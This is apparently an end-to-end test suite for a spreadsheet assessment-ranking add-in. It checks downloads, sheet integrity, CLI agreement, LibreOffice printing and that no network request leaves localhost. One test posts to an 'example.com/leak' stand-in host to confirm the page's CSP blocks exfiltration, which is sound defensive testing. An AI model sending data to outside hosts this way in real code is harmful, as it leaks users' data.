/**
 * File mode in a real browser (Debian's chromium, playwright-core) against the production
 * build in dist/: open the demo workbook, compute, catch the download, and check that
 * - no request ever leaves 127.0.0.1 (Office.js is answered from the local npm copy),
 * - the CSP blocks any outside connection the page might try,
 * - the download's new parts are compressed in the page's compression worker (a same-origin
 *   file no page lists as a script), which is still alive afterwards (it did not fail),
 * - the downloaded workbook keeps every input sheet unchanged (every zip entry of the input
 *   byte for byte) and adds the result sheets,
 * - its grades equal the CLI's JSON on the same file, also as LibreOffice reads them, and
 *   LibreOffice prints it on A4 landscape pages that fit the width,
 * - input errors are listed and nothing is downloaded,
 * - last year's result picked as a second file adds 上年排名 to the downloaded 考核结果.
 * Screenshots: docs/screenshots/file-mode.png, file-mode-wide.png, error-list.png.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import type { JsonReport } from '../../src/core/types';
import { ensureDist } from './support/build';
import { launchChromium, PANE_VIEWPORT, WIDE_VIEWPORT } from './support/chromium';
import { computeJson, makeDemoWorkbook } from './support/cli';
import { writeBrokenLedger } from './support/ledgers';
import { sheetCsv } from './support/libreoffice';
import { printFacts, TABLE_SHEETS } from './support/printCheck';
import { escaped, guardNetwork, officeJsBase, type NetworkLog } from './support/networkGuard';
import { DIST, SCREENSHOTS } from './support/paths';
import { serveStatic, type StaticServer } from './support/staticServer';
import { recordTiming } from './support/timings';
import { gridOf, loadWorkbook, rankedRowsFromGrid, rankedRowsFromJson, sheetContent } from './support/workbook';
import { storedEntries } from '../io/xlsx/support';

const INPUT_SHEETS = ['考核数据', '指标设置', '问题清单', '帮扶单位', '考核参数'];
const RESULT_SHEETS = ['考核结果', '计算明细', '约谈名单', '帮扶单位考核', '考核说明'];

let work: string;
let demoFile: string;
let cliJson: JsonReport;
/** The CLI's result workbook of the demo: last year's result for the 同比 test. */
let cliOut: string;
let server: StaticServer;
let browser: Browser;
let officeBase: string | null;
/** The workbook the page offered for download (set by the first test). */
let downloaded: string | null = null;

beforeAll(async () => {
  await ensureDist();
  work = fs.mkdtempSync(path.join(os.tmpdir(), 'kaohe-e2e-file-'));
  demoFile = path.join(work, 'demo.xlsx');
  makeDemoWorkbook(demoFile);
  cliOut = path.join(work, 'cli-out.xlsx');
  cliJson = computeJson(demoFile, cliOut);
  officeBase = officeJsBase(fs.readFileSync(path.join(DIST, 'taskpane.html'), 'utf8'));
  server = await serveStatic([DIST]);
  browser = await launchChromium();
  fs.mkdirSync(SCREENSHOTS, { recursive: true });
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (work) fs.rmSync(work, { recursive: true, force: true });
});

/** A fresh pane in file mode (zh), every request guarded. */
async function openPane(): Promise<{ context: BrowserContext; page: Page; log: NetworkLog }> {
  const context = await browser.newContext({ acceptDownloads: true, viewport: PANE_VIEWPORT, locale: 'zh-CN' });
  const log = await guardNetwork(context, { localOrigin: server.origin, officeJsBase: officeBase });
  const page = await context.newPage();
  await page.goto(server.url('taskpane.html'));
  await page.getByLabel('打开 Excel 文件（.xlsx）').waitFor({ state: 'attached', timeout: 20_000 });
  return { context, page, log };
}

describe('file mode in chromium', () => {
  it('opens the demo workbook, computes and downloads <name>-考核结果.xlsx without a request leaving 127.0.0.1', async () => {
    const started = performance.now();
    const { context, page, log } = await openPane();
    try {
      await page.getByLabel('打开 Excel 文件（.xlsx）').setInputFiles(demoFile);
      await page.getByText('已打开：demo.xlsx').waitFor();
      const download = page.waitForEvent('download');
      await page.getByRole('button', { name: '计算排名' }).click();
      const file = await download;
      expect(file.suggestedFilename()).toBe('demo-考核结果.xlsx');
      downloaded = path.join(work, 'page-out.xlsx');
      await file.saveAs(downloaded);
      await page.getByTestId('summary').waitFor();
      recordTiming('file mode: page load → open → compute → download saved', performance.now() - started);

      // The summary names the units the CLI graded 好.
      const good = cliJson.units.filter((unit) => unit.grade === '好').map((unit) => unit.name);
      await expect(page.locator('[data-grade="好"]').textContent()).resolves.toContain(good.join('、'));
      await expect(page.getByRole('link', { name: '下载 demo-考核结果.xlsx' }).count()).resolves.toBe(1);

      await page.screenshot({ path: path.join(SCREENSHOTS, 'file-mode.png'), fullPage: true });
      await page.setViewportSize(WIDE_VIEWPORT);
      await page.screenshot({ path: path.join(SCREENSHOTS, 'file-mode-wide.png'), fullPage: true });

      // Compressed in the worker: its script was fetched from the site, and it is still running
      // (a worker that failed its handshake or an entry is terminated, the main thread then compresses).
      const workerScript = new RegExp(`^${server.origin}/deflate\\.[0-9a-f]{8}\\.js$`);
      expect(log.all.filter((url) => workerScript.test(url)).length).toBe(1);
      expect(page.workers().map((worker) => worker.url()).filter((url) => workerScript.test(url)).length).toBe(1);
      for (const html of ['taskpane.html', 'city.html', 'check.html', 'commands.html', 'dialog.html']) {
        expect({ html, worker: /deflate\./.test(fs.readFileSync(path.join(DIST, html), 'utf8')) }).toEqual({ html, worker: false });
      }

      expect(escaped(log, server.origin)).toEqual([]);
      expect(log.all.some((url) => url.startsWith(server.origin))).toBe(true);
      // The only non-local names the page may use are Office.js files under its one base URL.
      expect(log.officeJs.every((url) => officeBase !== null && url.startsWith(officeBase))).toBe(true);
    } finally {
      await context.close();
    }
  }, 120_000);

  it('serves a CSP that blocks any outside connection from the page', async () => {
    const { context, page, log } = await openPane();
    try {
      const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      expect(policy).toContain("default-src 'self'");
      expect(policy).toContain("connect-src 'self'");
      const outcome = await page.evaluate(async () => {
        const violated: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective));
        try {
          await fetch('https://example.com/leak', { method: 'POST', body: 'x' });
          return 'sent';
        } catch {
          await new Promise((resolve) => setTimeout(resolve, 100));
          return violated.join(',');
        }
      });
      expect(outcome).toContain('connect-src');
      // Blocked by the page itself: the request never reached the network layer.
      expect(log.all.filter((url) => url.includes('example.com'))).toEqual([]);
      expect(escaped(log, server.origin)).toEqual([]);
    } finally {
      await context.close();
    }
  }, 60_000);

  it('keeps every input sheet of the downloaded workbook unchanged and adds the result sheets', async () => {
    expect(downloaded).not.toBeNull();
    const input = await loadWorkbook(demoFile);
    const output = await loadWorkbook(downloaded!);
    const names = output.worksheets.map((sheet) => sheet.name);
    expect(names.slice(0, INPUT_SHEETS.length)).toEqual(input.worksheets.map((sheet) => sheet.name));
    expect(names).toEqual(expect.arrayContaining([...INPUT_SHEETS, ...RESULT_SHEETS]));
    for (const name of input.worksheets.map((sheet) => sheet.name)) {
      expect({ name, ...sheetContent(output.getWorksheet(name)!) }).toEqual({ name, ...sheetContent(input.getWorksheet(name)!) });
    }
    for (const name of RESULT_SHEETS) expect(output.getWorksheet(name)!.rowCount).toBeGreaterThan(1);
  });

  it('keeps every zip entry of the input byte for byte in the download (only the listing parts gain)', () => {
    expect(downloaded).not.toBeNull();
    const before = storedEntries(new Uint8Array(fs.readFileSync(demoFile)));
    const after = storedEntries(new Uint8Array(fs.readFileSync(downloaded!)));
    const listing = ['[Content_Types].xml', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml'];
    const changed = [...before].filter(([name, entry]) => !listing.includes(name) && !Buffer.from(after.get(name)?.local ?? []).equals(Buffer.from(entry.local)));
    expect(changed.map(([name]) => name)).toEqual([]);
    expect(after.size).toBeGreaterThan(before.size);
  });

  it('writes the same ranks, totals and grades as the CLI JSON on the same file', async () => {
    expect(downloaded).not.toBeNull();
    const output = await loadWorkbook(downloaded!);
    const expected = rankedRowsFromJson(cliJson);
    expect(expected.length).toBe(19);
    expect(rankedRowsFromGrid(gridOf(output.getWorksheet('考核结果')!))).toEqual(expected);
  });

  it('reads back in LibreOffice: 考核结果 as CSV gives the JSON ranks and grades', async () => {
    expect(downloaded).not.toBeNull();
    const csv = await sheetCsv(downloaded!, '考核结果', path.join(work, 'csv-page'));
    expect(rankedRowsFromGrid(csv)).toEqual(rankedRowsFromJson(cliJson));
  }, 180_000);

  it('prints in LibreOffice to A4 landscape pages, every result table fitting the page width', async () => {
    expect(downloaded).not.toBeNull();
    const facts = await printFacts(downloaded!, path.join(work, 'pdf-page'), cliJson.units.map((unit) => unit.name));
    expect(facts.notA4Landscape).toEqual([]);
    expect(facts.tables.map((table) => table.sheet)).toEqual(TABLE_SHEETS.filter((sheet) => sheet !== '数据核验' || cliJson.warnings.length > 0));
    expect(facts.tables.filter((table) => table.pages === 0 || table.splitPages > 0)).toEqual([]);
    expect(facts.unitsNotPrinted).toEqual([]);
  }, 180_000);

  it('lists input errors with their cells, writes nothing and offers no download', async () => {
    const broken = path.join(work, '错误示例.xlsx');
    const spoiled = await writeBrokenLedger(demoFile, broken);
    const { context, page, log } = await openPane();
    try {
      let downloads = 0;
      page.on('download', () => downloads++);
      await page.getByLabel('打开 Excel 文件（.xlsx）').setInputFiles(broken);
      await page.getByText('已打开：错误示例.xlsx').waitFor();
      await page.getByRole('button', { name: '检查数据' }).click();
      const errors = page.locator('[data-severity="error"]');
      await errors.first().waitFor();
      const texts = await errors.allTextContents();
      for (const { cell } of spoiled) expect(texts.some((text) => text.includes(`考核数据!${cell}`))).toBe(true);
      expect(texts.some((text) => text.includes('九十'))).toBe(true);
      await expect(page.getByRole('heading', { name: new RegExp(`^${texts.length} 处错误`) }).count()).resolves.toBe(1);

      await page.screenshot({ path: path.join(SCREENSHOTS, 'error-list.png'), fullPage: true });

      await page.getByRole('button', { name: '计算排名' }).click();
      await page.getByRole('alert').first().waitFor();
      await expect(page.getByRole('alert').first().textContent()).resolves.toMatch(/错误/);
      await expect(page.getByTestId('summary').count()).resolves.toBe(0);
      expect(downloads).toBe(0);
      expect(escaped(log, server.origin)).toEqual([]);
    } finally {
      await context.close();
    }
  }, 60_000);

  it('opens a workbook dropped on the drop zone', async () => {
    const { context, page, log } = await openPane();
    try {
      const bytes = fs.readFileSync(demoFile).toString('base64');
      const transfer = await page.evaluateHandle((base64) => {
        const binary = atob(base64);
        const data = Uint8Array.from(binary, (char) => char.charCodeAt(0));
        const dataTransfer = new DataTransfer();
        dataTransfer.items.add(new File([data], '拖入.xlsx', { type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' }));
        return dataTransfer;
      }, bytes);
      await page.getByTestId('drop-zone').dispatchEvent('drop', { dataTransfer: transfer });
      await page.getByText('已打开：拖入.xlsx').waitFor();
      const download = page.waitForEvent('download');
      await page.getByRole('button', { name: '计算排名' }).click();
      expect((await download).suggestedFilename()).toBe('拖入-考核结果.xlsx');
      expect(escaped(log, server.origin)).toEqual([]);
    } finally {
      await context.close();
    }
  }, 60_000);

  it('picks last year\'s result as a second file: the downloaded 考核结果 has 上年排名, 名次变化 and 上年等次', async () => {
    const { context, page, log } = await openPane();
    try {
      await page.getByLabel('打开 Excel 文件（.xlsx）').setInputFiles(demoFile);
      await page.getByText('已打开：demo.xlsx').waitFor();
      // Last year's file is Kaohe's own result of the same ledger: every unit 持平, ρ = 1.
      await page.getByLabel('上年考核结果（可选）').setInputFiles(cliOut);
      await page.getByText(`上年结果：cli-out.xlsx（"考核结果"表，${cliJson.units.length} 个单位）`).waitFor();
      const download = page.waitForEvent('download');
      await page.getByRole('button', { name: '计算排名' }).click();
      const saved = path.join(work, 'page-previous.xlsx');
      await (await download).saveAs(saved);
      await page.getByText('与上年名次的相关系数（斯皮尔曼）1.00').waitFor();

      const output = await loadWorkbook(saved);
      const grid = gridOf(output.getWorksheet('考核结果')!);
      const header = grid[1];
      const column = (name: string) => grid.slice(2, 2 + cliJson.units.length).map((row) => row[header.indexOf(name)]);
      expect(header).toEqual(expect.arrayContaining(['上年排名', '名次变化', '上年等次']));
      expect(column('上年排名')).toEqual(cliJson.units.map((unit) => unit.rank));
      expect(column('上年等次')).toEqual(cliJson.units.map((unit) => unit.grade));
      expect(new Set(column('名次变化'))).toEqual(new Set(['持平']));
      expect(output.getWorksheet('同比分析')).toBeDefined();
      expect(escaped(log, server.origin)).toEqual([]);
    } finally {
      await context.close();
    }
  }, 120_000);
});
